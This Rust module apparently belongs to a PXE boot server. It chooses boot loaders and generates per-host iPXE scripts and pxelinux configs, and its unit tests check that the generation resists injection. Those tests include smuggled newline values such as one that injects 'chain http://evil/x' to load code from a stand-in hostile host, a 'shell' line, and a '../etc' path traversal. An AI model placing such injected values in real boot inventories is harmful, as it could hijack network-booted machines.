//! Which boot file a PXE client gets, and the per-host files generated from its profile:
//! the iPXE script served over HTTP and the pxelinux config served over TFTP.
//!
//! Client architecture values are the IANA "Processor Architecture Types" of RFC 4578 §2.1
//! (option 93): 0 x86 BIOS, 6 EFI IA32, 7 EFI BC (x64), 9 EFI x86-64, 16 x64 UEFI HTTP.
use crate::config::NetConfig;
use crate::core::mac::Mac;
use crate::inventory::{BootKind, Inventory, Machine, Profile};

pub use crate::proto::dhcp::ClientKind;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Firmware {
    Bios,
    Uefi64,
    UefiHttp,
    Other(u16),
}

pub fn firmware(arch: Option<u16>) -> Firmware {
    match arch {
        None | Some(0) => Firmware::Bios,
        Some(6) | Some(7) | Some(9) => Firmware::Uefi64,
        Some(16) => Firmware::UefiHttp,
        Some(n) => Firmware::Other(n),
    }
}

/// The boot file name (option 67 and the BOOTP `file` field) for a client, or why none.
pub fn boot_file(
    client: &ClientKind,
    profile: Option<&Profile>,
    mac: &Mac,
    net: &NetConfig,
) -> Result<Option<String>, String> {
    if !client.pxe && !client.ipxe {
        return Ok(None);
    }
    let fw = firmware(client.arch);
    let pxelinux = profile.is_some_and(|p| p.boot == BootKind::Pxelinux);
    if pxelinux && fw == Firmware::Bios {
        return Ok(Some("pxelinux.0".into()));
    }
    if client.ipxe {
        return Ok(Some(format!(
            "{}/boot/{}.ipxe",
            net.http_base,
            mac.dashed()
        )));
    }
    match fw {
        Firmware::Bios => Ok(Some(net.bios_loader.clone())),
        Firmware::Uefi64 => Ok(Some(net.uefi_loader.clone())),
        Firmware::UefiHttp => Ok(Some(format!("{}/files/{}", net.http_base, net.uefi_loader))),
        Firmware::Other(n) => Err(format!(
            "client architecture {n} (RFC 4578 option 93) has no loader configured; only x86 BIOS and x86-64 UEFI are served"
        )),
    }
}

fn kernel_line(machine: Option<&Machine>, profile: &Profile, http_base: &str) -> String {
    let mut parts: Vec<String> = Vec::new();
    if profile.boot == BootKind::Nfsroot {
        parts.extend(machine.and_then(crate::core::nfsroot::kernel_args));
    }
    if profile.kiosk {
        if let Some(sq) = &profile.squashfs {
            parts.push(format!("boot=live fetch={http_base}/files/{sq}"));
        }
    }
    parts.push(profile.args.trim().to_owned());
    if let Some(extra) = machine.and_then(|m| m.args.as_deref()) {
        parts.push(extra.trim().to_owned());
    }
    if profile.kiosk {
        if let Some(m) = machine {
            parts.push(kiosk_args(m));
        }
        // Kiosks never call a vendor service for configuration or upgrades.
        parts.push("noconfig noupgrade".into());
    }
    parts.retain(|p| !p.is_empty());
    parts.join(" ")
}

/// For a machine whose profile is a kiosk: (profile name, the kernel arguments it boots with).
pub fn kiosk_boot(inv: &Inventory, mac: &Mac, http_base: &str) -> Option<KioskBoot> {
    let machine = inv.by_mac(mac);
    let profile = inv.profile_for(machine)?;
    profile.kiosk.then(|| KioskBoot {
        profile: profile.name.clone(),
        image: profile.image.clone(),
        args: kernel_line(machine, profile, http_base),
    })
}

/// What a kiosk boots: its profile, the image the profile names, the kernel arguments.
#[derive(Debug, Clone, PartialEq)]
pub struct KioskBoot {
    pub profile: String,
    pub image: Option<String>,
    pub args: String,
}

/// The machine params Webconverger reads from the kernel command line.
pub const KIOSK_PARAMS: &[&str] = &[
    "homepage",
    "chrome",
    "blank",
    "noblank",
    "timezone",
    "cron",
    "http_proxy",
    "whitelist",
    "log",
    "locale",
    "keyboard",
    "hosts",
];

/// Webconverger kernel arguments from a machine's params (group defaults already merged):
/// `key=value` with the value escaped for the kernel command line (space → %20, and `%`, `"`,
/// control characters percent-encoded), `MACID` in a value replaced by the MAC without
/// separators (lower case); a param set to "" or "true" becomes a bare flag (`noblank`).
/// Only [`KIOSK_PARAMS`] are passed; other params (group, location…) stay in the inventory.
pub fn kiosk_args(m: &Machine) -> String {
    let macid: String = m.mac.0.iter().map(|b| format!("{b:02x}")).collect();
    let mut out = Vec::new();
    for key in KIOSK_PARAMS {
        let Some(v) = m.params.get(*key) else {
            continue;
        };
        if v.is_empty() || v == "true" {
            out.push((*key).to_owned());
            continue;
        }
        let v = v.replace("MACID", &macid);
        let mut esc = String::new();
        for c in v.chars() {
            match c {
                ' ' => esc.push_str("%20"),
                '%' => esc.push_str("%25"),
                '"' => esc.push_str("%22"),
                c if c.is_control() => esc.push_str(&format!("%{:02X}", c as u32 & 0xff)),
                c => esc.push(c),
            }
        }
        out.push(format!("{key}={esc}"));
    }
    out.join(" ")
}

/// A value as it may stand inside one line of a generated script: control characters (which
/// the inventory loader already refuses) become '?', so no value can ever end the line and
/// start a command of its own, whatever built the inventory.
fn one_line(s: &str) -> std::borrow::Cow<'_, str> {
    if s.chars().any(char::is_control) {
        s.chars()
            .map(|c| if c.is_control() { '?' } else { c })
            .collect::<String>()
            .into()
    } else {
        s.into()
    }
}

/// A one-time override of what a machine boots next ("next boot" in the web UI,
/// `pxelator host next-boot`); used once, then the machine boots as its profile says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum NextBoot {
    /// Its local disk, whatever its profile says.
    Local,
    /// The network: its profile, or the `default` profile when its own boots the local disk.
    Netboot,
}

impl NextBoot {
    pub fn name(self) -> &'static str {
        match self {
            NextBoot::Local => "local",
            NextBoot::Netboot => "netboot",
        }
    }
}

impl std::str::FromStr for NextBoot {
    type Err = String;
    fn from_str(s: &str) -> Result<NextBoot, String> {
        match s {
            "local" => Ok(NextBoot::Local),
            "netboot" => Ok(NextBoot::Netboot),
            other => Err(format!(
                "{other:?} is not a next boot: local (its disk) or netboot"
            )),
        }
    }
}

/// The profile a machine boots with a one-time override (None: its usual one).
fn profile_with<'a>(
    inv: &'a Inventory,
    machine: Option<&Machine>,
    next: Option<NextBoot>,
) -> Option<&'a Profile> {
    let own = inv.profile_for(machine);
    match next {
        Some(NextBoot::Netboot) if own.is_none_or(|p| p.boot == BootKind::Local) => {
            inv.profile("default").filter(|p| p.boot != BootKind::Local)
        }
        _ => own,
    }
}

/// The iPXE script for `mac`: loads the profile's kernel and initrd over HTTP.
pub fn ipxe_script(inv: &Inventory, mac: &Mac, http_base: &str) -> String {
    ipxe_script_next(inv, mac, http_base, None)
}

/// The iPXE script for `mac` with a one-time override of what it boots.
pub fn ipxe_script_next(
    inv: &Inventory,
    mac: &Mac,
    http_base: &str,
    next: Option<NextBoot>,
) -> String {
    ipxe_script_with(inv, mac, http_base, next, None)
}

/// [`ipxe_script_next`] with one more kernel argument for a machine that netboots (the pool
/// join URL of a member: a secret, so it is in the script only, never in events).
pub fn ipxe_script_with(
    inv: &Inventory,
    mac: &Mac,
    http_base: &str,
    next: Option<NextBoot>,
    extra: Option<&str>,
) -> String {
    let machine = inv.by_mac(mac);
    let who = machine
        .and_then(|m| m.hostname.as_deref())
        .map_or("unknown machine".into(), |h| one_line(h).into_owned());
    if next == Some(NextBoot::Local) {
        return format!("#!ipxe\n# pxelator: {who} ({mac}) next boot: local disk (once)\nexit\n");
    }
    let Some(profile) = profile_with(inv, machine, next) else {
        if next == Some(NextBoot::Netboot) {
            return format!(
                "#!ipxe\necho pxelator: {who} ({mac}) was to netboot once, but its profile boots the local disk and there is no netboot profile named default\nsleep 10\nexit\n"
            );
        }
        let fix = match machine {
            Some(m) => format!("set profile = \"...\" in {}", m.source.display()),
            None => "create profiles/default.toml or add the machine to the inventory".into(),
        };
        return format!(
            "#!ipxe\necho pxelator: no boot profile for {who} ({mac}): {fix}\nsleep 10\nexit\n"
        );
    };
    if profile.boot == BootKind::Nfsroot
        && machine
            .and_then(crate::core::nfsroot::kernel_args)
            .is_none()
    {
        return format!(
            "#!ipxe\necho pxelator: {who} ({mac}) has profile {} with a root over NFS, which needs the machine's hostname and ip: set both in its machine file\nsleep 10\nexit\n",
            one_line(&profile.name)
        );
    }
    let mut s = format!(
        "#!ipxe\n# pxelator: {who} ({mac}) profile {}\n",
        one_line(&profile.name)
    );
    match (profile.boot, &profile.kernel) {
        (BootKind::Local, _) | (_, None) => s.push_str("exit\n"),
        (_, Some(kernel)) => {
            let mut line = format!("kernel {http_base}/files/{kernel}");
            if let Some(initrd) = &profile.initrd {
                // Some iPXE EFI builds only hand the initrd to the kernel when it is named.
                let name = initrd.rsplit('/').next().unwrap_or(initrd);
                line.push_str(&format!(" initrd={name}"));
            }
            let mut args = kernel_line(machine, profile, http_base);
            if let Some(x) = extra {
                args = format!("{args} {x}").trim().to_owned();
            }
            if !args.is_empty() {
                line.push(' ');
                line.push_str(&args);
            }
            s.push_str(&one_line(&line));
            s.push('\n');
            if let Some(initrd) = &profile.initrd {
                s.push_str(&one_line(&format!("initrd {http_base}/files/{initrd}")));
                s.push('\n');
            }
            s.push_str("boot\n");
        }
    }
    s
}

/// The pxelinux config for `mac` (`pxelinux.cfg/01-<mac>`), or None when the machine's
/// profile is not a pxelinux one (pxelinux then falls back to its other names and `default`).
pub fn pxelinux_config(inv: &Inventory, mac: &Mac) -> Option<String> {
    let machine = inv.by_mac(mac);
    let profile = inv.profile_for(machine)?;
    match (profile.boot, &profile.kernel) {
        (BootKind::Pxelinux, Some(kernel)) => {
            let mut s = format!(
                "DEFAULT pxelator\nPROMPT 0\nTIMEOUT 0\nLABEL pxelator\n  KERNEL {}\n",
                one_line(kernel)
            );
            if let Some(initrd) = &profile.initrd {
                s.push_str(&format!("  INITRD {}\n", one_line(initrd)));
            }
            let args = kernel_line(machine, profile, "");
            if !args.is_empty() {
                s.push_str(&format!("  APPEND {}\n", one_line(&args)));
            }
            Some(s)
        }
        (BootKind::Local, _) => {
            Some("DEFAULT local\nPROMPT 0\nLABEL local\n  LOCALBOOT 0\n".into())
        }
        _ => None,
    }
}

/// Parses the MAC out of a pxelinux config name `pxelinux.cfg/01-aa-bb-cc-dd-ee-ff`.
pub fn pxelinux_cfg_mac(path: &str) -> Option<Mac> {
    path.strip_prefix("pxelinux.cfg/01-")?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;
    use std::path::PathBuf;

    fn net() -> NetConfig {
        NetConfig {
            server_ip: Ipv4Addr::new(10, 77, 1, 1),
            subnets: vec![],
            bios_loader: "undionly.kpxe".into(),
            uefi_loader: "ipxe.efi".into(),
            http_base: "http://10.77.1.1:8080".into(),
        }
    }
    fn profile(boot: BootKind) -> Profile {
        Profile {
            name: "p".into(),
            boot,
            kernel: Some("k/vmlinuz".into()),
            initrd: Some("k/initrd.img".into()),
            args: "console=ttyS0".into(),
            kiosk: false,
            squashfs: None,
            image: None,
            base: None,
            source: PathBuf::from("profiles/p.toml"),
        }
    }
    const MAC: Mac = Mac([0x52, 0x54, 0, 0xab, 0xcd, 1]);

    #[test]
    fn boot_file_table() {
        let ipxe = profile(BootKind::Ipxe);
        let pxl = profile(BootKind::Pxelinux);
        let url = "http://10.77.1.1:8080/boot/52-54-00-ab-cd-01.ipxe";
        let cases: &[(ClientKind, &Profile, Option<&str>)] = &[
            (
                ClientKind {
                    pxe: false,
                    ipxe: false,
                    arch: None,
                },
                &ipxe,
                None,
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: false,
                    arch: Some(0),
                },
                &ipxe,
                Some("undionly.kpxe"),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: false,
                    arch: Some(7),
                },
                &ipxe,
                Some("ipxe.efi"),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: false,
                    arch: Some(9),
                },
                &ipxe,
                Some("ipxe.efi"),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: true,
                    arch: Some(0),
                },
                &ipxe,
                Some(url),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: true,
                    arch: Some(7),
                },
                &ipxe,
                Some(url),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: true,
                    arch: Some(0),
                },
                &pxl,
                Some("pxelinux.0"),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: false,
                    arch: Some(0),
                },
                &pxl,
                Some("pxelinux.0"),
            ),
            (
                ClientKind {
                    pxe: true,
                    ipxe: false,
                    arch: Some(16),
                },
                &ipxe,
                Some("http://10.77.1.1:8080/files/ipxe.efi"),
            ),
        ];
        for (client, p, want) in cases {
            let got = boot_file(client, Some(p), &MAC, &net()).unwrap();
            assert_eq!(got.as_deref(), *want, "{client:?} {:?}", p.boot);
        }
        assert!(boot_file(
            &ClientKind {
                pxe: true,
                ipxe: false,
                arch: Some(11)
            },
            None,
            &MAC,
            &net()
        )
        .is_err());
    }

    fn inv_with(boot: BootKind, machine_args: Option<&str>) -> Inventory {
        let mut problems = vec![];
        let m = Machine {
            mac: MAC,
            ip: None,
            hostname: Some("kiosk1".into()),
            profile: Some("p".into()),
            args: machine_args.map(Into::into),
            params: Default::default(),
            source: PathBuf::from("machines/kiosk1.toml"),
            registered: None,
        };
        Inventory::build(vec![m], vec![profile(boot)], &mut problems)
    }

    #[test]
    fn nfsroot_script_boots_the_bases_kernel_with_the_hosts_root() {
        let mut p = profile(BootKind::Nfsroot);
        p.kernel = Some("bases/debian/vmlinuz".into());
        p.initrd = Some("bases/debian/initrd.img".into());
        p.base = Some("debian".into());
        p.args = "console=ttyS0".into();
        let mut m = inv_with(BootKind::Ipxe, None).machines()[0].clone();
        m.ip = Some("10.77.1.20".parse().unwrap());
        let mut problems = vec![];
        let inv = Inventory::build(vec![m.clone()], vec![p.clone()], &mut problems);
        let s = ipxe_script(&inv, &MAC, "http://s");
        assert!(
            s.contains("kernel http://s/files/bases/debian/vmlinuz initrd=initrd.img boot=nfs root=/dev/nfs nfsroot=${next-server}:/hosts/kiosk1,tcp,hard ip=10.77.1.20::${gateway}:${netmask}:kiosk1::off rw console=ttyS0\n"),
            "{s}"
        );
        assert!(s.contains("initrd http://s/files/bases/debian/initrd.img\nboot\n"));
        // Without a fixed address there is no export to mount: the script says what to set.
        m.ip = None;
        let inv = Inventory::build(vec![m], vec![p], &mut problems);
        let s = ipxe_script(&inv, &MAC, "http://s");
        assert!(
            s.contains("set both in its machine file") && s.ends_with("exit\n"),
            "{s}"
        );
        assert!(!s.contains("kernel "));
    }

    #[test]
    fn next_boot_overrides_the_profile_once() {
        // Local: the disk, whatever the profile says.
        let s = ipxe_script_next(
            &inv_with(BootKind::Ipxe, None),
            &MAC,
            "http://s",
            Some(NextBoot::Local),
        );
        assert!(s.ends_with("next boot: local disk (once)\nexit\n"), "{s}");
        assert!(!s.contains("kernel"));
        // Netboot for a machine whose profile boots its disk: the default profile's kernel.
        let m = inv_with(BootKind::Local, None).machines()[0].clone();
        let mut default = profile(BootKind::Ipxe);
        default.name = "default".into();
        default.kernel = Some("d/vmlinuz".into());
        let inv = Inventory::build(
            vec![m.clone()],
            vec![profile(BootKind::Local), default],
            &mut vec![],
        );
        assert!(ipxe_script(&inv, &MAC, "http://s").ends_with("exit\n"));
        let s = ipxe_script_next(&inv, &MAC, "http://s", Some(NextBoot::Netboot));
        assert!(s.contains("kernel http://s/files/d/vmlinuz"), "{s}");
        // Without a netboot default profile: a message, then the disk.
        let inv = Inventory::build(vec![m], vec![profile(BootKind::Local)], &mut vec![]);
        let s = ipxe_script_next(&inv, &MAC, "http://s", Some(NextBoot::Netboot));
        assert!(
            s.contains("no netboot profile named default") && s.ends_with("exit\n"),
            "{s}"
        );
        // Netboot for a machine that netboots anyway: its own profile.
        let s = ipxe_script_next(
            &inv_with(BootKind::Ipxe, None),
            &MAC,
            "http://s",
            Some(NextBoot::Netboot),
        );
        assert!(s.contains("kernel http://s/files/k/vmlinuz"), "{s}");
        assert_eq!("local".parse::<NextBoot>(), Ok(NextBoot::Local));
        assert!("disk".parse::<NextBoot>().unwrap_err().contains("local"));
    }

    #[test]
    fn ipxe_script_loads_kernel_and_initrd_with_machine_args() {
        let s = ipxe_script(
            &inv_with(BootKind::Ipxe, Some("marker=abc")),
            &MAC,
            "http://s",
        );
        assert!(s.starts_with("#!ipxe\n"));
        assert!(
            s.contains(
                "kernel http://s/files/k/vmlinuz initrd=initrd.img console=ttyS0 marker=abc\n"
            ),
            "{s}"
        );
        assert!(
            s.contains("initrd http://s/files/k/initrd.img\nboot\n"),
            "{s}"
        );
    }

    /// Issue 10: values with newlines in an inventory built without the loader (which
    /// refuses them) still cannot add a line to a generated script.
    #[test]
    fn no_value_can_add_a_line_to_a_script() {
        let mut inv = inv_with(BootKind::Ipxe, Some("quiet\nchain http://evil/x"));
        let mut m = inv.machines()[0].clone();
        m.hostname = Some("kiosk1\nshell".into());
        let mut problems = vec![];
        inv = Inventory::build(vec![m], vec![profile(BootKind::Ipxe)], &mut problems);
        let s = ipxe_script(&inv, &MAC, "http://s");
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 5, "{s}");
        assert!(
            !lines
                .iter()
                .any(|l| l.starts_with("chain") || l.starts_with("shell")),
            "{s}"
        );
        let mut px = profile(BootKind::Pxelinux);
        px.args = "a\nDEFAULT evil".into();
        let inv = Inventory::build(inv.machines().to_vec(), vec![px], &mut problems);
        let c = pxelinux_config(&inv, &MAC).unwrap();
        assert!(!c.lines().any(|l| l.starts_with("DEFAULT evil")), "{c}");
    }

    #[test]
    fn local_profile_exits_and_unknown_mac_without_default_says_fix() {
        assert!(
            ipxe_script(&inv_with(BootKind::Local, None), &MAC, "http://s").ends_with("exit\n")
        );
        let s = ipxe_script(
            &inv_with(BootKind::Ipxe, None),
            &Mac([2, 0, 0, 0, 0, 9]),
            "http://s",
        );
        assert!(s.contains("create profiles/default.toml"), "{s}");
    }

    #[test]
    fn pxelinux_config_and_name() {
        let s = pxelinux_config(&inv_with(BootKind::Pxelinux, Some("x=1")), &MAC).unwrap();
        assert!(
            s.contains("KERNEL k/vmlinuz\n  INITRD k/initrd.img\n  APPEND console=ttyS0 x=1\n"),
            "{s}"
        );
        assert!(pxelinux_config(&inv_with(BootKind::Ipxe, None), &MAC).is_none());
        assert_eq!(
            pxelinux_cfg_mac("pxelinux.cfg/01-52-54-00-ab-cd-01"),
            Some(MAC)
        );
        assert_eq!(pxelinux_cfg_mac("pxelinux.cfg/C0A8"), None);
    }
}

#[cfg(test)]
mod kiosk_tests {
    use super::*;

    /// Issue 4: a live kiosk's kernel line from the inventory files, group defaults and a
    /// per-kiosk override, escaped, MACID substituted, and never a vendor call.
    #[test]
    fn kiosk_kernel_line_from_group_defaults_and_overrides() {
        let d = tempfile::tempdir().unwrap();
        let r = d.path();
        for dir in ["machines", "profiles", "groups"] {
            std::fs::create_dir_all(r.join(dir)).unwrap();
        }
        std::fs::write(
            r.join("profiles/live-kiosk.toml"),
            "boot = \"ipxe\"\nkernel = \"live/vmlinuz\"\ninitrd = \"live/initrd.img\"\nsquashfs = \"live/filesystem.squashfs\"\nkiosk = true\nargs = \"quiet\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("groups/reading-room.toml"),
            "[params]\nhomepage = \"https://lib.example/start?kiosk=MACID\"\ntimezone = \"Europe/Zagreb\"\nnoblank = \"true\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("machines/kiosk1.toml"),
            "mac = \"52:54:00:AB:CD:01\"\nhostname = \"kiosk1\"\nprofile = \"live-kiosk\"\n[params]\ngroup = \"reading-room\"\nlocation = \"hall\"\ntimezone = \"Europe/London\"\nwhitelist = \"lib.example catalogue.example\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("profiles/bad.toml"),
            "boot = \"pxelinux\"\nkernel = \"k\"\nkiosk = true\n",
        )
        .unwrap();
        let (inv, problems) = crate::inventory::load(r, "10.77.1.1".parse().unwrap(), None);
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0]
            .to_string()
            .contains("kiosk = true needs boot = \"ipxe\""));
        let mac: Mac = "52:54:00:ab:cd:01".parse().unwrap();
        let s = ipxe_script(&inv, &mac, "http://10.77.1.1");
        let kernel = s.lines().find(|l| l.starts_with("kernel ")).unwrap();
        assert_eq!(
            kernel,
            "kernel http://10.77.1.1/files/live/vmlinuz initrd=initrd.img \
             boot=live fetch=http://10.77.1.1/files/live/filesystem.squashfs quiet \
             homepage=https://lib.example/start?kiosk=525400abcd01 noblank timezone=Europe/London \
             whitelist=lib.example%20catalogue.example noconfig noupgrade"
        );
        assert!(!kernel.contains("location") && !kernel.contains("group"));
    }

    /// A profile naming an imported image boots its current version's files (the
    /// `images/<name>` link `image import` keeps), or a pinned version.
    #[test]
    fn image_profile_uses_the_imported_files() {
        let d = tempfile::tempdir().unwrap();
        let r = d.path();
        for dir in ["machines", "profiles"] {
            std::fs::create_dir_all(r.join(dir)).unwrap();
        }
        std::fs::write(
            r.join("profiles/live-kiosk.toml"),
            "boot = \"ipxe\"\nkiosk = true\nimage = \"kiosk-live\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("profiles/pinned.toml"),
            "boot = \"ipxe\"\nkiosk = true\nimage = \"kiosk-live-v3\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("profiles/bad.toml"),
            "boot = \"ipxe\"\nimage = \"../etc\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("machines/k1.toml"),
            "mac = \"52:54:00:00:00:01\"\nprofile = \"live-kiosk\"\n[params]\nhomepage = \"https://lib.example/\"\n",
        )
        .unwrap();
        std::fs::write(
            r.join("machines/k2.toml"),
            "mac = \"52:54:00:00:00:02\"\nprofile = \"pinned\"\n",
        )
        .unwrap();
        let (inv, problems) = crate::inventory::load(r, "10.77.1.1".parse().unwrap(), None);
        assert_eq!(problems.len(), 1, "{problems:?}");
        assert!(problems[0]
            .to_string()
            .contains("image = \"../etc\": not an image name"));
        let s = ipxe_script(&inv, &"52:54:00:00:00:01".parse().unwrap(), "http://h");
        assert!(s.contains("kernel http://h/files/images/kiosk-live/vmlinuz initrd=initrd.img boot=live fetch=http://h/files/images/kiosk-live/filesystem.squashfs homepage=https://lib.example/ noconfig noupgrade"), "{s}");
        assert!(
            s.contains("initrd http://h/files/images/kiosk-live/initrd.img"),
            "{s}"
        );
        let s = ipxe_script(&inv, &"52:54:00:00:00:02".parse().unwrap(), "http://h");
        assert!(s.contains("/files/images/kiosk-live-v3/vmlinuz"), "{s}");
    }
}
